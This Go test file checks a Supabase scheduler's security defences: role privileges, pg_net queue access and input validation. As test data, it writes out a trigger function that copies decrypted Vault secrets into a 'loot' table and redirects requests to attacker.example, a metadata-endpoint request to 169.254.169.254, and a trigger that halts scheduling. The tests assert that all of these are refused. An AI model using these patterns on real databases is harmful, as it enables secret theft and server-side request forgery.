package supabase_test

import (
	"context"
	"fmt"
	"strings"
	"testing"

	"github.com/jackc/pgx/v5"

	"github.com/peermentor/scenario-scheduler/adapters/postgres"
	"github.com/peermentor/scenario-scheduler/adapters/postgres/pgtest"
	"github.com/peermentor/scenario-scheduler/supabase"
)

// supabaseLike is a database set up in the order of a Supabase project: created by postgres from template1
// (the administrator's bootstrap: schema extensions, the API roles), pg_net and Vault enabled by the
// administrator (the real ones where installed, the stand-ins with their real grants otherwise), then
// migrated by postgres. Database-level settings (TEMP) are the migration's own: a database copied from the
// pgtest template would not carry them. It returns the URL and connections as postgres and as the
// administrator.
func supabaseLike(t *testing.T) (string, *pgx.Conn, *pgx.Conn) {
	t.Helper()
	ctx := context.Background()
	server := pgtest.ServerURL(t)
	name := "sec_" + randomHex(t, 6)
	dbURL, err := postgres.WithDatabase(server, name)
	if err != nil {
		t.Fatal(err)
	}
	adminServer := pgtest.AdminURL(t, server)
	if _, err := connect(t, server).Exec(ctx, `create database `+name); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() {
		c, err := pgx.Connect(context.Background(), adminServer)
		if err != nil {
			t.Errorf("dropping %s: %v", name, err)
			return
		}
		defer c.Close(context.Background())
		if _, err := c.Exec(context.Background(), `drop database if exists `+name+` with (force)`); err != nil {
			t.Errorf("dropping %s: %v", name, err)
		}
	})
	admin := connect(t, pgtest.AdminURL(t, dbURL))
	loadStandIns(t, admin)
	conn := connect(t, dbURL)
	ms, err := postgres.LoadMigrations(supabase.Migrations)
	if err != nil {
		t.Fatal(err)
	}
	if _, err := postgres.Migrate(ctx, conn, ms); err != nil {
		t.Fatalf("migrating: %v", err)
	}
	return dbURL, conn, admin
}

// denied runs each statement and expects SQLSTATE 42501 (insufficient privilege).
func denied(t *testing.T, conn *pgx.Conn, who string, statements ...string) {
	t.Helper()
	for _, q := range statements {
		if _, err := conn.Exec(context.Background(), q); sqlState(err) != "42501" {
			t.Errorf("%s: %s\n  got %v, want SQLSTATE 42501 (insufficient privilege)", who, q, err)
		}
	}
}

// count returns the single integer a query returns.
func count(t *testing.T, conn *pgx.Conn, q string, args ...any) int {
	t.Helper()
	var n int
	if err := conn.QueryRow(context.Background(), q, args...).Scan(&n); err != nil {
		t.Fatalf("%s: %v", q, err)
	}
	return n
}

// The function role creates nothing: no temporary table or function (PUBLIC's TEMP is gone), no object in
// any schema, no schema in the database. A trigger on pg_net's queue would need a function of its own.
func TestFunctionRoleHasNoTempAndNoCreate(t *testing.T) {
	ctx := context.Background()
	dbURL, conn, _ := supabaseLike(t)
	fn := connect(t, loginRole(t, conn, dbURL))
	denied(t, fn, "the function role",
		`create temporary table loot (secret text)`,
		`create function pg_temp.steal() returns trigger language plpgsql as 'begin return new; end'`,
		`create schema attacker`,
		`create function public.steal() returns trigger language plpgsql as 'begin return new; end'`,
		`create function scheduler.steal() returns trigger language plpgsql as 'begin return new; end'`,
		`create function extensions.steal() returns trigger language plpgsql as 'begin return new; end'`,
	)
	rows, err := fn.Query(ctx, `select n.nspname::text from pg_namespace n where has_schema_privilege(n.oid, 'CREATE')
		union all select 'database: ' || p from unnest(array['CREATE', 'TEMPORARY']) p
		where has_database_privilege(current_database(), p)`)
	if err != nil {
		t.Fatal(err)
	}
	may, err := pgx.CollectRows(rows, pgx.RowTo[string])
	if err != nil {
		t.Fatal(err)
	}
	if len(may) > 0 {
		t.Errorf("the function role may still CREATE in: %v", may)
	}
	// The roles that need temporary tables keep them.
	if n := count(t, conn, `select count(*) from unnest(array['postgres', 'anon', 'authenticated', 'service_role']) r
		where has_database_privilege(r, current_database(), 'TEMPORARY')`); n != 4 {
		t.Errorf("%d of postgres, anon, authenticated, service_role keep TEMPORARY, want 4", n)
	}
}

// pg_net grants its tables to PUBLIC (TRIGGER included) and net.http_post to PUBLIC. The function role
// still cannot queue, change, delete or truncate a request or a response; the worker and invoke() can,
// whichever role the worker connects as (pg_net.username): pg_net's default, the bootstrap superuser, or
// postgres, as on hosted Supabase.
func TestFunctionRoleCannotUsePgNet(t *testing.T) {
	ctx := context.Background()
	dbURL, conn, admin := supabaseLike(t)
	storeSecrets(t, conn, "http://127.0.0.1:9/scheduler", "the-secret-"+randomHex(t, 8))
	workers := []struct {
		role string
		conn *pgx.Conn
	}{{"the bootstrap superuser (pg_net's default)", admin}, {"postgres (pg_net.username on hosted Supabase)", conn}}
	ids := make([]int64, len(workers))
	for i, w := range workers {
		if err := conn.QueryRow(ctx, `select scheduler.invoke()`).Scan(&ids[i]); err != nil {
			t.Fatalf("scheduler.invoke() as its owner: %v", err)
		}
		if _, err := w.conn.Exec(ctx, `insert into net._http_response (id, status_code, content) values ($1, 200, '{}')`, ids[i]); err != nil {
			t.Fatalf("the worker as %s recording an answer: %v", w.role, err)
		}
	}
	fn := connect(t, loginRole(t, conn, dbURL))
	denied(t, fn, "the function role",
		`select net.http_post('http://169.254.169.254/latest/meta-data', '{}'::jsonb)`,
		`insert into net.http_request_queue (method, url, headers, timeout_milliseconds) values ('POST', 'http://x/', '{}', 1000)`,
		`update net.http_request_queue set url = 'http://attacker.example/'`,
		`delete from net.http_request_queue`,
		`truncate net.http_request_queue`,
		`insert into net._http_response (id, status_code) values (1, 200)`,
		`update net._http_response set status_code = 500`,
		`delete from net._http_response`,
		`truncate net._http_response`,
	)
	if n := count(t, conn, `select count(*) from net.http_request_queue where id = any($1) and url = 'http://127.0.0.1:9/scheduler'`, ids); n != len(ids) {
		t.Errorf("queued requests are gone or changed (%d of %d as queued)", n, len(ids))
	}
	// The worker takes requests off the queue.
	for i, w := range workers {
		if _, err := w.conn.Exec(ctx, `delete from net.http_request_queue where id = $1`, ids[i]); err != nil {
			t.Errorf("the worker as %s taking the request: %v", w.role, err)
		}
	}
}

// Finding 1: a trigger on pg_net's queue, fired by invoke() with its owner's rights, read the secret from
// Vault and redirected the signed call. invoke() refuses to queue while a trigger it does not expect is
// there, so nothing leaks and nothing is sent; while invoke()'s transaction is open no trigger can be
// added; and a rewritten request is caught after the insert.
func TestInvokeResistsQueueTriggers(t *testing.T) {
	ctx := context.Background()
	dbURL, conn, admin := supabaseLike(t)
	secret := "the-secret-" + randomHex(t, 16)
	storeSecrets(t, conn, "http://127.0.0.1:9/scheduler", secret)
	fnURL := loginRole(t, conn, dbURL)
	fn := connect(t, fnURL)

	// The attacker's trigger function: someone able to create functions made it (the function role cannot,
	// see TestFunctionRoleHasNoTempAndNoCreate); the function role attaches it with pg_net's TRIGGER grant.
	_, err := admin.Exec(ctx, `
		create table public.loot (secret text);
		grant all on public.loot to public;
		create function public.steal() returns trigger language plpgsql as $f$
		begin
		  insert into public.loot select decrypted_secret from vault.decrypted_secrets;
		  new.url := 'http://attacker.example/';
		  return new;
		end $f$;
		grant execute on function public.steal() to public`)
	if err != nil {
		t.Fatal(err)
	}
	for _, table := range []string{"net.http_request_queue", "net._http_response"} {
		t.Run(table, func(t *testing.T) {
			trig := "steal_" + randomHex(t, 3)
			if _, err := fn.Exec(ctx, fmt.Sprintf(`create trigger %s before insert or update on %s for each row execute function public.steal()`, trig, table)); err != nil {
				t.Skipf("the function role cannot create a trigger on %s here (%v): the defence below is not needed", table, err)
			}
			t.Cleanup(func() { _, _ = admin.Exec(ctx, fmt.Sprintf(`drop trigger if exists %s on %s`, trig, table)) })
			queuedBefore := count(t, conn, `select count(*) from net.http_request_queue`)
			_, err := conn.Exec(ctx, `select scheduler.invoke()`)
			if err == nil || sqlState(err) != "55000" || !strings.Contains(err.Error(), trig) {
				t.Fatalf("scheduler.invoke() with trigger %s on %s: %v, want SQLSTATE 55000 naming the trigger", trig, table, err)
			}
			if n := count(t, admin, `select count(*) from public.loot`); n != 0 {
				t.Errorf("the trigger stole %d secrets", n)
			}
			if n := count(t, conn, `select count(*) from net.http_request_queue`); n != queuedBefore {
				t.Errorf("%d requests queued by a refused invoke()", n-queuedBefore)
			}
		})
	}

	t.Run("no trigger while invoke's transaction is open", func(t *testing.T) {
		tx, err := conn.Begin(ctx)
		if err != nil {
			t.Fatal(err)
		}
		defer tx.Rollback(ctx) //nolint:errcheck
		if _, err := tx.Exec(ctx, `select scheduler.invoke()`); err != nil {
			t.Fatal(err)
		}
		// The response table too: its triggers fire in the worker's session, when the answer comes back.
		for _, table := range []string{"net.http_request_queue", "net._http_response"} {
			_, err = fn.Exec(ctx, `set lock_timeout = '300ms';
				create trigger late before insert on `+table+` for each row execute function public.steal()`)
			if sqlState(err) != "55P03" && sqlState(err) != "42501" {
				t.Errorf("creating a trigger on %s while invoke() holds it: %v, want lock timeout 55P03 (or 42501)", table, err)
			}
		}
	})

	t.Run("guards come back", func(t *testing.T) {
		// A pg_net upgrade recreates its tables: the guards are gone until the next invoke().
		if _, err := admin.Exec(ctx, `drop trigger scheduler_guard on net.http_request_queue`); err != nil {
			t.Fatal(err)
		}
		if _, err := conn.Exec(ctx, `select scheduler.invoke()`); err != nil {
			t.Fatal(err)
		}
		if n := count(t, conn, `select count(*) from pg_trigger where tgrelid = 'net.http_request_queue'::regclass and tgname = 'scheduler_guard'`); n != 1 {
			t.Errorf("invoke() did not re-create its guard (%d)", n)
		}
	})

	// Whatever makes the queued row differ from what invoke() asked for. net.http_post is wrapped, by its
	// owner, in a function that calls it with one argument changed, so that the row is still queued by
	// pg_net's own code: the real extension's where pg_net is installed in this database (a pg_extension
	// row, realExtension), the stand-in's otherwise. This used to replace net.http_post with a copy of the
	// stand-in's body, which is not pg_net's function, and so it skipped where pg_net is real.
	t.Run("rewritten request", func(t *testing.T) {
		if realExtension(t, conn, "pg_net") {
			t.Log("net.http_post is pg_net's own")
		}
		for _, c := range []struct{ name, url, body, headers, timeout string }{
			{"unchanged", "url", "body", "headers", "timeout_milliseconds"},
			{"url", "'http://attacker.example/scheduler'", "body", "headers", "timeout_milliseconds"},
			{"body", "url", `body || '{"scenarios": ["inactivity"]}'`, "headers", "timeout_milliseconds"},
			{"headers", "url", "body", `headers || '{"X-Forwarded-For": "203.0.113.9"}'`, "timeout_milliseconds"},
			{"timeout", "url", "body", "headers", "1000"},
		} {
			t.Run(c.name, func(t *testing.T) {
				wrapHTTPPost(t, admin, c.url, c.body, c.headers, c.timeout)
				queuedBefore := count(t, conn, `select count(*) from net.http_request_queue`)
				_, err := conn.Exec(ctx, `select scheduler.invoke()`)
				if c.name == "unchanged" {
					if err != nil {
						t.Fatalf("scheduler.invoke() through a wrapper that changes nothing: %v", err)
					}
					return
				}
				if err == nil || sqlState(err) != "55000" || !strings.Contains(err.Error(), "is not the request it queued") {
					t.Fatalf("scheduler.invoke() with a rewritten %s: %v, want SQLSTATE 55000, a refusal", c.name, err)
				}
				if n := count(t, conn, `select count(*) from net.http_request_queue`); n != queuedBefore {
					t.Errorf("the rewritten request stayed queued")
				}
			})
		}
	})
}

// wrapHTTPPost renames net.http_post(text, jsonb, jsonb, jsonb, integer) and puts in its place a function
// with the same signature that calls it with the given SQL expressions for url, body, headers and
// timeout_milliseconds (each may name the wrapper's own arguments). The original is back when the test ends.
func wrapHTTPPost(t *testing.T, admin *pgx.Conn, url, body, headers, timeout string) {
	t.Helper()
	ctx := context.Background()
	const sig = `(text, jsonb, jsonb, jsonb, integer)`
	if _, err := admin.Exec(ctx, `alter function net.http_post`+sig+` rename to http_post_unwrapped`); err != nil {
		t.Fatalf("net.http_post%s: %v", sig, err)
	}
	t.Cleanup(func() {
		_, err := admin.Exec(context.Background(), `drop function net.http_post`+sig+`;
			alter function net.http_post_unwrapped`+sig+` rename to http_post`)
		if err != nil {
			t.Errorf("restoring net.http_post: %v", err)
		}
	})
	_, err := admin.Exec(ctx, fmt.Sprintf(`create function net.http_post(url text, body jsonb default '{}', params jsonb default '{}',
		headers jsonb default '{"Content-Type": "application/json"}', timeout_milliseconds integer default 5000)
		returns bigint language sql as $f$ select net.http_post_unwrapped(%s, %s, params, %s, %s) $f$`, url, body, headers, timeout))
	if err != nil {
		t.Fatal(err)
	}
}

// Finding 5: the SECURITY DEFINER functions check their inputs as the HTTP contract does, for the function
// role, and write nothing when they refuse.
func TestSQLFunctionsCheckTheirInputs(t *testing.T) {
	ctx := context.Background()
	dbURL := pgtest.NewDatabase(t)
	conn := connect(t, dbURL)
	fn := connect(t, loginRole(t, conn, dbURL))
	const run = `'00000000-0000-4000-8000-000000000001'`
	bad := []string{
		`select scheduler.start_run(` + run + `, '2099-01-01', 'http', false, '{}')`,
		`select scheduler.start_run(` + run + `, current_date - 120, 'http', false, '{}')`,
		`select scheduler.start_run(` + run + `, current_date, 'http', false, jsonb_build_object('x', repeat('a', 70000)))`,
		`select scheduler.start_run(` + run + `, current_date, repeat('t', 1000), false, '{}')`,
		`select scheduler.finish_run(` + run + `, 'completed', 1, jsonb_build_object('x', repeat('a', 300000)))`,
		`select * from scheduler.claim_checkpoint(` + run + `, '2099-01-01', 'inactivity', 1000, 1, 1, '')`,
		`select * from scheduler.claim_checkpoint(` + run + `, current_date, 'no_such_scenario', 1000, 1, 1, '')`,
		`select * from scheduler.claim_checkpoint(` + run + `, current_date, 'inactivity', 100000000, 1, 1, '')`,
		`select scheduler.release_checkpoint(` + run + `, '1999-01-01', 'inactivity', 1, 1, '')`,
		`select scheduler.record_scenario_stats('no_such_scenario', 1, 1)`,
		`select * from scheduler.evaluate_batch(` + run + `, 'inactivity', '2099-01-01', null, 100, true, 1, 1, '')`,
		`select * from scheduler.evaluate_batch(` + run + `, 'inactivity', current_date, null, 10000000, true, 1, 1, '')`,
		`select * from scheduler.evaluate_batch(` + run + `, 'no_such_scenario', current_date, null, 100, true, 1, 1, '')`,
		`select * from scheduler.claim_pushes(` + run + `, now() + interval '30 days', current_date, 100, 1000, 5)`,
		`select * from scheduler.claim_pushes(` + run + `, now(), '2099-01-01', 100, 1000, 5)`,
		`select * from scheduler.claim_pushes(` + run + `, now(), current_date, 1000000, 1000, 5)`,
		`select scheduler.record_deliveries(` + run + `, '{"not": "an array"}', null)`,
		`select scheduler.record_deliveries(` + run + `, '[]', array_fill('t'::text, array[200000]))`,
		`select * from scheduler.delivery_backlog(now() + interval '30 days')`,
		// Shards: 1 <= k <= N <= 64.
		`select * from scheduler.claim_checkpoint(` + run + `, current_date, 'inactivity', 1000, 3, 2, '')`,
		`select * from scheduler.claim_checkpoint(` + run + `, current_date, 'inactivity', 1000, 1, 65, '')`,
		`select scheduler.release_checkpoint(` + run + `, current_date, 'inactivity', 0, 4, '')`,
		`select * from scheduler.evaluate_batch(` + run + `, 'inactivity', current_date, null, 100, true, 5, 4, '')`,
		`select * from scheduler.evaluate_batch(` + run + `, 'inactivity', current_date, null, 100, true, 1, null, '')`,
		`select scheduler.remaining_mentors(null, 1, 0, '')`,
		`select * from scheduler.checkpoint_progress(current_date, 'inactivity', 2, 1, '')`,
	}
	for _, q := range bad {
		if _, err := fn.Exec(ctx, q); sqlState(err) != "22023" {
			t.Errorf("as the function role: %.120s\n  got %v, want SQLSTATE 22023 (invalid parameter)", q, err)
		}
	}
	if n := count(t, conn, `select (select count(*) from scheduler.runs) + (select count(*) from scheduler.checkpoints)`); n != 0 {
		t.Errorf("%d runs or checkpoints written by refused calls", n)
	}
	// Inside the window everything works, the edges (allowing for the time zone) included.
	for _, q := range []string{
		`select scheduler.start_run(` + run + `, current_date - 91, 'http', false, '{"evaluation_date": "x"}')`,
		`select * from scheduler.claim_checkpoint(` + run + `, current_date + 2, 'inactivity', 1000, 1, 1, '')`,
		`select * from scheduler.evaluate_batch(` + run + `, 'inactivity', current_date, null, 100, true, 1, 1, '')`,
		`select * from scheduler.evaluate_batch(` + run + `, 'inactivity', current_date, null, 100, true, 64, 64, '')`,
		`select * from scheduler.claim_checkpoint(` + run + `, current_date, 'milestone', 1000, 2, 4, '')`,
		`select * from scheduler.delivery_backlog(now())`,
	} {
		if _, err := fn.Exec(ctx, q); err != nil {
			t.Errorf("as the function role: %s: %v", q, err)
		}
	}
}

// Finding 6: a function created later in schema scheduler (or anywhere) by the migration role is not
// executable by the function role.
func TestLaterFunctionsAreNotExecutableByTheFunctionRole(t *testing.T) {
	dbURL := pgtest.NewDatabase(t)
	conn := connect(t, dbURL)
	for _, f := range []string{"scheduler.added_later", "public.added_later"} {
		if _, err := conn.Exec(context.Background(), `create function `+f+`() returns int language sql as 'select 1'`); err != nil {
			t.Fatal(err)
		}
	}
	fn := connect(t, loginRole(t, conn, dbURL))
	denied(t, fn, "the function role", `select scheduler.added_later()`, `select public.added_later()`)
}

// docs/security.md, 1e: a trigger anyone may add stops all scheduling. pg_net grants TRIGGER on its tables
// to PUBLIC and the built-in suppress_redundant_updates_trigger() is executable by PUBLIC, so the function
// role attaches a trigger without creating anything. invoke() then refuses to queue (the defence of 1b,
// working as designed), and neither postgres nor the function role can drop it: only the owner of net. The
// watchdog alerts (foreign_trigger), naming the trigger, its table and that owner, and resolves once it is gone.
func TestBuiltInTriggerStopsScheduling(t *testing.T) {
	ctx := context.Background()
	dbURL, conn, admin := supabaseLike(t)
	storeSecrets(t, conn, "http://127.0.0.1:9/scheduler", "the-secret-"+randomHex(t, 8))
	fn := connect(t, loginRole(t, conn, dbURL))
	for _, table := range []string{"net.http_request_queue", "net._http_response"} {
		trig := "stop_" + randomHex(t, 3)
		if _, err := fn.Exec(ctx, `create trigger `+trig+` before insert or update on `+table+`
			for each row execute function suppress_redundant_updates_trigger()`); err != nil {
			t.Skipf("the function role cannot create a trigger on %s here (%v): pg_net's TRIGGER grant is revoked", table, err)
		}
		_, err := conn.Exec(ctx, `select scheduler.invoke()`)
		if sqlState(err) != "55000" || !strings.Contains(err.Error(), trig) {
			t.Errorf("scheduler.invoke() with %s on %s: %v, want SQLSTATE 55000 naming it", trig, table, err)
		}
		drop := `drop trigger ` + trig + ` on ` + table
		denied(t, conn, "postgres", drop)
		denied(t, fn, "the function role", drop)
		// Nothing the project can do but ask: the watchdog (as postgres, as its cron job runs) says so, naming
		// the table, the trigger and its owner, the role that can drop it.
		var owner string
		if err := conn.QueryRow(ctx, `select pg_get_userbyid(relowner) from pg_class where oid = $1::regclass`, table).Scan(&owner); err != nil {
			t.Fatal(err)
		}
		alerts := func() []string {
			return queryStrings(t, conn, `select detail from scheduler.alerts where problem = 'foreign_trigger' and resolved_at is null`)
		}
		if _, err := conn.Exec(ctx, `select scheduler.watchdog()`); err != nil {
			t.Fatal(err)
		}
		if got := alerts(); len(got) != 1 || !strings.Contains(got[0], trig+" on "+table) ||
			!strings.Contains(got[0], "owned by "+owner) || !strings.Contains(got[0], "support") {
			t.Errorf("watchdog with %s on %s: foreign_trigger alerts %q, want one naming it, its owner %s and whom to ask", trig, table, got, owner)
		}
		if _, err := admin.Exec(ctx, drop); err != nil {
			t.Fatalf("the owner of net: %v", err)
		}
		if _, err := conn.Exec(ctx, `select scheduler.invoke()`); err != nil {
			t.Errorf("scheduler.invoke() once the owner dropped the trigger: %v", err)
		}
		if _, err := conn.Exec(ctx, `select scheduler.watchdog()`); err != nil {
			t.Fatal(err)
		}
		if got := alerts(); len(got) != 0 {
			t.Errorf("foreign_trigger still open once the owner dropped the trigger: %q", got)
		}
	}
}
